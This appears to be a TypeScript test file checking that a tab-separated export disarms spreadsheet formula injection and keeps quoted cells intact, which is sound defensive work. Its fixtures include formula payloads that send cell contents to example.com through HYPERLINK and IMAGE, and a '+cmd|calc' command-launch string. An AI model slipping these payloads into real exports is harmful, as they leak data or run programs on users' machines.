import {expect, it} from 'vitest';
import {tabSeparated} from './tab-separated';

type Row = {readonly name: string};

const copied = (name: string, title = 'Name') =>
	tabSeparated<Row>([{title, text: row => row.name}], [{name}]);

it('has titles first, and no cell leaves its place', () => {
	const columns = [
		{title: 'Name', text: (row: Row) => row.name},
		{title: 'Length', text: (row: Row) => String(row.name.length)},
	];
	const rows = [{name: 'night log'}, {name: 'a\tb\r\nc'}];
	expect(tabSeparated(columns, rows)).toBe('Name\tLength\nnight log\t9\na b c\t6');
});

it.each([
	"=HYPERLINK('http://example.com/?'&B2;'x')",
	'+cmd|calc',
	'-2+3+cmd',
	'@SUM(A1)',
	' =1+1',
	'\t=1+1',
	'＝1+1',
	'-',
])('nothing is computed from %s', name => {
	expect(copied(name)).toBe(`Name\n'${name.replace('\t', ' ')}`);
	// The name of a profile field is a title.
	expect(copied('x', name)).toBe(`'${name.replace('\t', ' ')}\nx`);
});

/** What a spreadsheet reads of such lines (RFC 4180, with tabs). */
function readBack(text: string): readonly (readonly string[])[] {
	const cells = text.matchAll(/(?:^|([\t\n]))(?:"((?:[^"]|"")*)"|([^\t\n]*))/g);
	const rows: string[][] = [[]];
	for (const [, before, quoted, plain = ''] of cells) {
		if (before === '\n') rows.push([]);
		rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
	}
	return rows;
}

it.each([
	['"=IMAGE(""https://example.com/?""&A1)"', `'"=IMAGE(""https://example.com/?""&A1)"`],
	['=HYPERLINK("http://example.com/?"&B2)', `'=HYPERLINK("http://example.com/?"&B2)`],
	['"open quote', '"open quote'],
	['5" pipe', '5" pipe'],
	['""', '""'],
])('a quotation mark in %s begins no cell of its own', (name, read) => {
	const columns = [
		{title: 'Name', text: (row: Row) => row.name},
		{title: 'More', text: () => 'x'},
	];
	const text = tabSeparated(columns, [{name}, {name: 'Ben'}]);
	expect(readBack(text)).toEqual([
		['Name', 'More'],
		[read, 'x'],
		['Ben', 'x'],
	]);
});

it.each(['-5', '+41 79 123 45 67', '-1,200.50', '+3 %', '3 = 3', 'a@example.com', "it's"])(
	'%s stays as it is',
	name => {
		expect(copied(name)).toBe(`Name\n${name}`);
	},
);
